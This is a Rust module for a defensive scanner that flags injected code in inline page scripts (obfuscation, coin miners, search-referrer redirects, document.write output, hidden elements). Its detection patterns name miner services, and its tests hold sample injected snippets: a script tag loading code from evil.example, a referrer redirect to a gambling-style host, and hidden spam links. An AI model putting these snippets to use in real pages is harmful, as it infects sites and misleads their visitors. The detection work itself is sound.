//! A scanner for the text of inline scripts: what a script writes into the page
//! (`document.write`), which elements it hides, and the signs of injected code (obfuscation,
//! search-engine referrer redirects, coin miners). Pattern matching on the text, not a
//! JavaScript parser: injected code is short and written to be copied between sites, so its
//! shapes are few and stable; ordinary code only has to not look like them.
//!
//! Linear in the script's length (the `regex` crate never backtracks); at most
//! [`MAX_SCRIPT_BYTES`] of a script are read.

use regex::Regex;
use std::sync::LazyLock;

/// How much of one script is read: injected code is short, and a page's own bundles are long.
pub const MAX_SCRIPT_BYTES: usize = 512 * 1024;

/// How much one `document.write(...)` argument may be.
const MAX_WRITE_BYTES: usize = 64 * 1024;

/// What a script does that matters to the content checks.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Signal {
    /// Code decoded at run time (`eval(unescape(...))`, long `String.fromCharCode` chains).
    Obfuscation { snippet: String },
    /// A crypto-currency miner.
    Miner { snippet: String },
    /// Sends visitors who come from a search engine elsewhere (`document.referrer` tested
    /// against search engines, then `location` set).
    ReferrerRedirect { snippet: String },
    /// Markup written with `document.write`, decoded as far as string literals and
    /// `unescape` go; `decoded` when escapes had to be decoded to read it.
    Written {
        html: String,
        snippet: String,
        decoded: bool,
    },
    /// The script hides the elements that `selector` (`#id` or `.class`) names.
    Hides { selector: String, snippet: String },
}

fn regex(pattern: &str) -> Regex {
    // The patterns are constants of this file, tested below.
    Regex::new(pattern).unwrap_or_else(|_| Regex::new("$^").unwrap_or_else(|_| unreachable!()))
}

// `\b` (a Unicode word boundary) is tested by `starts_word` after the match, not in the
// pattern: a Unicode `\b` makes the regex crate's fast engine give up on any non-ASCII text
// (Chinese comments and strings), and the slow one then reads the whole script.
static EVAL_DECODE: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)eval\s*\(\s*(?:window\.)?(?:unescape|atob|decodeURIComponent|escape|String\.fromCharCode)\s*\(",
    )
});
static CHAR_CODES: LazyLock<Regex> =
    LazyLock::new(|| regex(r"String\.fromCharCode\s*\(\s*(?:\d+\s*,\s*){19,}\d+"));
static HEX_BLOB: LazyLock<Regex> = LazyLock::new(|| regex(r"(?:\\x[0-9a-fA-F]{2}){40,}"));
static MINER: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)coinhive|coin-hive|CoinHive\.Anonymous|authedmine|cryptonight|crypto-loot|cryptoloot|webminepool|jsecoin|minero\.cc|coinimp|deepminer",
    )
});
/// `\bnew\s+Miner\s*\(`, the word boundary tested by `starts_word`.
static NEW_MINER: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)new\s+Miner\s*\("));
static REFERRER: LazyLock<Regex> = LazyLock::new(|| regex(r"document\.referrer"));
static SEARCH_ENGINE: LazyLock<Regex> = LazyLock::new(|| {
    regex(r#"(?i)["'/.](?:baidu|google|sogou|so\.com|soso|bing|sm\.cn|360|yahoo|yandex|youdao)"#)
});
static REDIRECT: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)(?:(?:window|top|self|document)\.)?location(?:\.href)?\s*=\s*['"]https?:|location\.(?:replace|assign)\s*\(\s*['"]https?:"#,
    )
});
static WRITE: LazyLock<Regex> = LazyLock::new(|| regex(r"document\s*\.\s*write(?:ln)?\s*\("));
static HIDE_BY_ID: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"getElementById\s*\(\s*['"]([\w-]+)['"]\s*\)\s*\.style\.(?:display\s*=\s*['"]none['"]|visibility\s*=\s*['"]hidden['"])"#,
    )
});
static HIDE_BY_JQUERY: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"\$\(\s*['"]([#.][\w-]+)['"]\s*\)\s*\.(?:hide\s*\(\s*\)|css\s*\(\s*['"]display['"]\s*,\s*['"]none['"]\s*\))"#,
    )
});

/// Everything [`Signal`] describes in one script's text, in the order of the tests.
pub fn scan(text: &str) -> Vec<Signal> {
    let text = truncate(text, MAX_SCRIPT_BYTES);
    let mut signals = Vec::new();
    let obfuscated = find_word(&EVAL_DECODE, text)
        .or_else(|| HEX_BLOB.find(text))
        .or_else(|| {
            CHAR_CODES
                .find_iter(text)
                .find(|m| decodes_to_code(m.as_str()))
        });
    if let Some(m) = obfuscated {
        signals.push(Signal::Obfuscation {
            snippet: around(text, m.start()),
        });
    }
    let miner = match (MINER.find(text), find_word(&NEW_MINER, text)) {
        (Some(a), Some(b)) => Some(a.start().min(b.start())),
        (a, b) => a.or(b).map(|m| m.start()),
    };
    if let Some(start) = miner {
        signals.push(Signal::Miner {
            snippet: around(text, start),
        });
    }
    if let Some(referrer) = REFERRER.find(text)
        && SEARCH_ENGINE.is_match(text)
        && let Some(redirect) = REDIRECT.find(text)
    {
        signals.push(Signal::ReferrerRedirect {
            snippet: around(text, referrer.start().min(redirect.start())),
        });
    }
    for m in WRITE.find_iter(text) {
        let argument = call_argument(&text[m.end()..]);
        let (html, decoded) = decode_argument(argument);
        if !html.trim().is_empty() {
            signals.push(Signal::Written {
                html,
                snippet: around(text, m.start()),
                decoded,
            });
        }
    }
    for caps in HIDE_BY_ID.captures_iter(text) {
        if let (Some(all), Some(id)) = (caps.get(0), caps.get(1)) {
            signals.push(Signal::Hides {
                selector: format!("#{}", id.as_str()),
                snippet: around(text, all.start()),
            });
        }
    }
    for caps in HIDE_BY_JQUERY.captures_iter(text) {
        if let (Some(all), Some(selector)) = (caps.get(0), caps.get(1)) {
            signals.push(Signal::Hides {
                selector: selector.as_str().to_owned(),
                snippet: around(text, all.start()),
            });
        }
    }
    signals
}

/// The leftmost match of `pattern` that starts a word, as `\b` at the start of the pattern
/// would find it (`pattern` begins with a word character).
fn find_word<'t>(pattern: &Regex, text: &'t str) -> Option<regex::Match<'t>> {
    let mut from = 0;
    while let Some(m) = pattern.find_at(text, from) {
        let before = text[..m.start()].chars().next_back();
        if before.is_none_or(|c| !regex_syntax::is_word_character(c)) {
            return Some(m);
        }
        from = m.start() + text[m.start()..].chars().next().map_or(1, char::len_utf8);
    }
    None
}

/// A `String.fromCharCode(n, n, ...)` chain that spells code or an address: pages also spell
/// e-mail addresses this way to hide them from harvesters (`mailto:`), which is not injected
/// code.
fn decodes_to_code(call: &str) -> bool {
    let Some(open) = call.find('(') else {
        return false;
    };
    let decoded: String = call[open + 1..]
        .split(',')
        .filter_map(|n| n.trim().parse::<u32>().ok())
        .filter_map(char::from_u32)
        .collect::<String>()
        .to_ascii_lowercase();
    !decoded.contains("mailto:")
        && [
            "<script", "<iframe", "http", "location", "eval", "document", "window", "<a ",
        ]
        .iter()
        .any(|w| decoded.contains(w))
}

/// At most `max` bytes of `text`, cut at a character boundary.
fn truncate(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// About 120 bytes of the script from `start`, on one line.
fn around(text: &str, start: usize) -> String {
    let rest = &text[start..];
    let cut = truncate(rest, 120);
    cut.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The text of a call's argument list: from just after `(` to its matching `)` (quotes and
/// nesting respected), at most [`MAX_WRITE_BYTES`].
fn call_argument(after_paren: &str) -> &str {
    let text = truncate(after_paren, MAX_WRITE_BYTES);
    let mut depth = 0usize;
    let mut quote: Option<u8> = None;
    let mut escaped = false;
    for (i, &b) in text.as_bytes().iter().enumerate() {
        if let Some(q) = quote {
            if escaped {
                escaped = false;
            } else if b == b'\\' {
                escaped = true;
            } else if b == q {
                quote = None;
            }
            continue;
        }
        match b {
            b'"' | b'\'' | b'`' => quote = Some(b),
            b'(' => depth += 1,
            b')' if depth == 0 => return &text[..i],
            b')' => depth -= 1,
            _ => {}
        }
    }
    text
}

/// The markup a `document.write` argument writes, as far as it can be read statically: its
/// string literals joined (variables between them are left out), `%XX` escapes decoded when the
/// argument calls `unescape` or `decodeURIComponent`, JavaScript escapes decoded; and whether
/// any `\x`/`\u` or `%` escape had to be decoded.
fn decode_argument(argument: &str) -> (String, bool) {
    let mut escaped = false;
    let mut joined = String::new();
    let bytes = argument.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if matches!(b, b'"' | b'\'' | b'`') {
            let quote = b;
            i += 1;
            let start = i;
            let mut literal = String::new();
            let mut segment_start = start;
            while i < bytes.len() && bytes[i] != quote {
                if bytes[i] == b'\\' && i + 1 < bytes.len() {
                    literal.push_str(&argument[segment_start..i]);
                    let (decoded, used) = js_escape(&argument[i + 1..]);
                    escaped |= used > 1;
                    literal.push_str(&decoded);
                    i += 1 + used;
                    segment_start = i;
                    continue;
                }
                i += 1;
            }
            let end = i.min(bytes.len());
            if segment_start <= end && argument.is_char_boundary(segment_start) {
                literal.push_str(argument.get(segment_start..end).unwrap_or(""));
            }
            joined.push_str(&literal);
        }
        i += 1;
    }
    let lower = argument.to_ascii_lowercase();
    if lower.contains("unescape") || lower.contains("decodeuri") {
        let decoded = percent_decode(&joined);
        let changed = decoded != joined;
        (decoded, escaped || changed)
    } else {
        (joined, escaped)
    }
}

/// One JavaScript string escape after its backslash: the text it stands for and the bytes it
/// used.
fn js_escape(rest: &str) -> (String, usize) {
    let mut chars = rest.chars();
    let Some(c) = chars.next() else {
        return (String::new(), 0);
    };
    let hex = |digits: &str| {
        u32::from_str_radix(digits, 16)
            .ok()
            .and_then(char::from_u32)
    };
    match c {
        'x' => rest
            .get(1..3)
            .and_then(hex)
            .map_or((String::from("x"), 1), |ch| (ch.to_string(), 3)),
        'u' => rest
            .get(1..5)
            .and_then(hex)
            .map_or((String::from("u"), 1), |ch| (ch.to_string(), 5)),
        'n' => ("\n".into(), 1),
        't' => ("\t".into(), 1),
        other => (other.to_string(), other.len_utf8()),
    }
}

/// `unescape`: `%XX` and `%uXXXX`; anything else is kept as written.
fn percent_decode(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('%') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let decoded = if let Some(hex) = after.strip_prefix('u').and_then(|a| a.get(..4)) {
            u32::from_str_radix(hex, 16)
                .ok()
                .and_then(char::from_u32)
                .map(|c| (c, 5))
        } else {
            after
                .get(..2)
                .and_then(|hex| u8::from_str_radix(hex, 16).ok())
                .filter(u8::is_ascii)
                .map(|b| (char::from(b), 2))
        };
        match decoded {
            Some((c, used)) => {
                out.push(c);
                rest = &after[used..];
            }
            None => {
                out.push('%');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<&'static str> {
        scan(text)
            .iter()
            .map(|s| match s {
                Signal::Obfuscation { .. } => "obfuscation",
                Signal::Miner { .. } => "miner",
                Signal::ReferrerRedirect { .. } => "referrer",
                Signal::Written { .. } => "written",
                Signal::Hides { .. } => "hides",
            })
            .collect()
    }

    #[test]
    fn every_pattern_compiles() {
        for pattern in [
            &*EVAL_DECODE,
            &*CHAR_CODES,
            &*HEX_BLOB,
            &*MINER,
            &*NEW_MINER,
            &*REFERRER,
            &*SEARCH_ENGINE,
            &*REDIRECT,
            &*WRITE,
            &*HIDE_BY_ID,
            &*HIDE_BY_JQUERY,
        ] {
            assert_ne!(pattern.as_str(), "$^");
        }
    }

    proptest::proptest! {
        /// `find_word` finds what a leading `\b` in the pattern finds.
        #[test]
        fn find_word_is_a_leading_word_boundary(
            text in proptest::string::string_regex(r"([a-z_ 中é\u{300}(.]|eval|EvAl|new Miner|unescape\(){0,12}").unwrap()
        ) {
            for (pattern, bounded) in [
                (&*EVAL_DECODE, r"(?i)\beval\s*\(\s*(?:window\.)?(?:unescape|atob|decodeURIComponent|escape|String\.fromCharCode)\s*\("),
                (&*NEW_MINER, r"(?i)\bnew\s+Miner\s*\("),
            ] {
                let bounded = Regex::new(bounded).unwrap();
                proptest::prop_assert_eq!(
                    find_word(pattern, &text).map(|m| m.range()),
                    bounded.find(&text).map(|m| m.range())
                );
            }
        }
    }

    #[test]
    fn injected_code_is_recognised() {
        assert_eq!(kinds("eval(unescape('%64%6f'))"), ["obfuscation"]);
        let codes = (0..30).map(|n| (60 + n).to_string()).collect::<Vec<_>>();
        assert_eq!(
            kinds(&format!("var s=String.fromCharCode({});", codes.join(","))),
            Vec::<&str>::new(),
            "letters and digits are not code"
        );
        let code: Vec<String> = "<script src=http://x.example>"
            .bytes()
            .map(|b| b.to_string())
            .collect();
        assert_eq!(
            kinds(&format!("var s=String.fromCharCode({});", code.join(","))),
            ["obfuscation"]
        );
        let mail: Vec<String> = "<a href=\"mailto:press@example.org\">"
            .bytes()
            .map(|b| b.to_string())
            .collect();
        assert!(
            kinds(&format!(
                "document.body.innerHTML+=String.fromCharCode({});",
                mail.join(",")
            ))
            .is_empty()
        );
        assert_eq!(
            kinds("var miner = new CoinHive.Anonymous('key'); miner.start();"),
            ["miner"]
        );
        assert_eq!(
            kinds(
                "var r=document.referrer; if(r.indexOf('.baidu.')>0||r.indexOf('sogou')>0){window.location.href='https://xpj.example/';}"
            ),
            ["referrer"]
        );
    }

    #[test]
    fn ordinary_code_is_not_suspicious() {
        assert!(
            kinds("var a = String.fromCharCode(65, 66); console.log(document.referrer);")
                .is_empty()
        );
        assert!(
            kinds("if (location.hash) { window.location.href = '/search?q=' + q; }").is_empty()
        );
    }

    #[test]
    fn written_markup_is_decoded() {
        let signals = scan(
            r#"document.write(unescape("%3Cdiv style='display:none'%3E%3Ca href='http://x.example/'%3E百家乐%3C/a%3E%3C/div%3E"));"#,
        );
        assert!(
            matches!(&signals[..], [Signal::Written { html, decoded: true, .. }]
            if html == "<div style='display:none'><a href='http://x.example/'>百家乐</a></div>")
        );
        let signals = scan(
            r#"document.write('<scr' + 'ipt src="\x2f\x2fevil.example/a.js"></scr' + 'ipt>');"#,
        );
        assert!(
            matches!(&signals[..], [Signal::Written { html, decoded: true, .. }]
            if html == r#"<script src="//evil.example/a.js"></script>"#)
        );
        let signals =
            scan(r#"document.write('<scr' + 'ipt src="//cdn.example/a.js"></scr' + 'ipt>');"#);
        assert!(matches!(
            &signals[..],
            [Signal::Written { decoded: false, .. }]
        ));
    }

    #[test]
    fn hidden_elements_are_named() {
        let signals =
            scan("document.getElementById('links').style.display='none'; $('.yqlj').hide();");
        let selectors: Vec<_> = signals
            .iter()
            .filter_map(|s| match s {
                Signal::Hides { selector, .. } => Some(selector.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(selectors, ["#links", ".yqlj"]);
    }

    proptest::proptest! {
        #[test]
        fn never_panics_on_any_text(text in "\\PC{0,300}") {
            let _ = scan(&text);
        }

        #[test]
        fn never_panics_on_write_calls(tail in "[\"'`\\\\%u0-9a-f()<>+ ]{0,80}") {
            let _ = scan(&format!("document.write({tail}"));
            let _ = scan(&format!("document.write(unescape({tail}"));
        }
    }
}
